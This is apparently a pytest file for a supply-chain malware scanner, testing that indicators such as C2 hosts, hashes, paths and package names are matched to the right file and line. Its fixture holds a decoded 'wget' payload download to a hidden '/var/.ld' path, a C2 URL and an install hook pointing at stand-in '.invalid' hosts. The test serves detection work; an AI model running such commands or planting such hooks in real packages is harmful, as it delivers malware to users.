"""Where evidence shows an indicator."""

import msgspec
import pytest

from customhouse.engine.indicators import indicator
from customhouse.model.code import Decoded
from customhouse.sweep.matching import hits
from rules.cases import call, case, code, content, hook

FACTS = content(
    code(
        path="lib/setup.js",
        hosts=("https://user@c2.evil.invalid:8443/x", "192.0.2.7:80"),
        decoded=(Decoded("wget http://stage.evil.invalid/y -O /var/.ld", 7, ("base64",)),),
        calls=(call("fs.writeFileSync", "/var/.ld", line=9),),
    ),
    hooks=(hook("node lib/setup.js --to evil-mirror.invalid"),),
    natives=("bin/tool.node",),
    sha1="1" * 40,
)
CASE = case(contents=(msgspec.structs.replace(FACTS, sha256="2" * 64),))


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("c2.evil.invalid", ("lib/setup.js", None)),
        ("evil.invalid", ("lib/setup.js", None)),
        ("stage.evil.invalid", ("lib/setup.js", 7)),
        ("192.0.2.7", ("lib/setup.js", None)),
        ("http://stage.evil.invalid/y", ("lib/setup.js", 7)),
        ("evil-mirror.invalid", ("setup.js", None)),
        ("tool.node", ("bin/tool.node", None)),
        ("setup.js", ("lib/setup.js", None)),
        ("/var/.ld", ("lib/setup.js", 7)),
        ("text:wget HTTP", ("lib/setup.js", 7)),
        ("1" * 40, ("", None)),
        ("2" * 64, ("", None)),
        ("request-maker@1.14.1", ("", None)),
        ("pkg:npm/request-maker", ("", None)),
    ],
)
def test_it_is_found_at_its_place(text, where):
    (hit,) = hits(CASE, [indicator(text)])
    assert (hit.path, hit.line) == where
    assert hit.artifact == FACTS.filename


@pytest.mark.parametrize(
    "text", ["vil.invalid", "mirror.invalid", "192.0.2.70", "2.0.2.7", "3" * 64, "request-maker@1.14.0", "up.js"]
)
def test_a_part_of_a_name_is_not_the_name(text):
    assert not hits(CASE, [indicator(text)])
